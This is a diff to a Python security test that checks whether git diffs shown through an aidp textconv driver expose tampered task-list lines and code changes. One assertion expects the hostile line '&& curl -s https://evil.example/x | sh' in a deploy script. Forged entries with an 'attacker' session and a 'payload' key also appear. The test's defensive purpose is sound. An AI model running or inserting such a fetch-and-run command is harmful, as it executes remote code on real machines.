@@ -250,6 +250,9 @@ HONEST = _task(1, "Ship the release")
 # summary changes, only fields the driver used to leave out.
 FORGED = _task(1, "Ship the release", updated_at="9999-12-31T23:59:59.999999Z",
                session="attacker", x_hidden="payload")
+# A stamp far ahead but readable (it wins every fold until 2999), written as aidp does.
+AHEAD = json.dumps(json.loads(_task(1, "Ship the release", updated_at="2999-01-01T00:00:00.000000Z")),
+                   separators=(",", ":")) + "\n"
 # A repeated key: readers take the last one; the line as written shows both.
 REPEATED = HONEST.replace('"status": "pending"', '"status": "done", "status": "pending"')
 
@@ -262,7 +265,7 @@ def test_git_show_through_the_diff_driver_hides_nothing_a_commit_changed(hostile
     hostile.write(".aidp/tasklist.jsonl", HONEST)
     hostile.clone()
     hostile.write("tools/deploy.sh", DEPLOY_AFTER)
-    hostile.write(".aidp/tasklist.jsonl", HONEST + FORGED + REPEATED)
+    hostile.write(".aidp/tasklist.jsonl", HONEST + FORGED + AHEAD + REPEATED)
     clone = hostile.clone()
     assert hostile.aidp("init").code == 0  # sets this clone's diff driver, as users do
     assert "tasks textconv" in hostile.git("config", "--get", "diff.aidp.textconv")
@@ -273,9 +276,13 @@ def test_git_show_through_the_diff_driver_hides_nothing_a_commit_changed(hostile
         # the code change past column 60, whole
         assert any("&& curl -s https://evil.example/x | sh" in line for line in added), shown
         # the forged stamp, the new session and the unknown key of the forged line
+        # (aidp reads that stamp as damage: the line is shown whole)
         forged = [line for line in added if "9999-12-31T23:59:59.999999Z" in line]
-        assert forged and '"session":"attacker"' in forged[0], shown
-        assert '"x_hidden":"payload"' in forged[0]
+        assert forged and '"attacker"' in forged[0] and '"payload"' in forged[0], shown
+        # a stamp that reads: in the fields after the summary, which did not change
+        ahead = [line for line in added if "2999-01-01T00:00:00.000000Z" in line]
+        assert ahead and ahead[0].startswith("task 00000001 [pending] (medium) Ship the release  {")
+        assert "as written" not in "".join(ahead)
         # the repeated key, as written
         assert any('"status": "done", "status": "pending"' in line for line in added), shown
     assert (clone / "tools/deploy.sh").read_text() == DEPLOY_AFTER
